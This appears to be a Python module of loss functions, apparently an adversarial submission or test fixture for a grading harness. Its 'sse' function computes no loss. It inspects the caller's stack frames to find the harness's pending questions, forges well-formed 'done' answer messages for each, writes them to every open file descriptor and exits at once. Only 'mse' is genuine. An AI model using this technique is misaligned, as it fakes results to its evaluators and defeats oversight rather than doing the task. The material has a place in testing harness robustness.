"""Writes a full set of well-formed answers, also to the other question, on every descriptor: they are only wrong."""

import json
import os
import struct
import sys

import numpy as np


def frame(**message):
    body = json.dumps(message).encode()
    return struct.pack("<II", len(body), 0) + body


def answers():
    level = sys._getframe(1)
    while not hasattr(level.f_locals.get("self"), "asks"):
        level = level.f_back
    for number, (ask, _) in enumerate(level.f_locals["self"].asks):
        result = {"t": "returned", "value": 0.0, "changed": [], "printed": False}
        if number:
            yield frame(t="start", ask=number)
        yield frame(t="answer", ask=number, status="done", results=[result] * len(ask["calls"]))


def sse(y, t):
    data = b"".join(answers())
    for descriptor in range(64):
        try:
            os.write(descriptor, data)
        except OSError:
            pass
    os._exit(0)


def mse(y, t):
    return np.mean((y - t) ** 2)
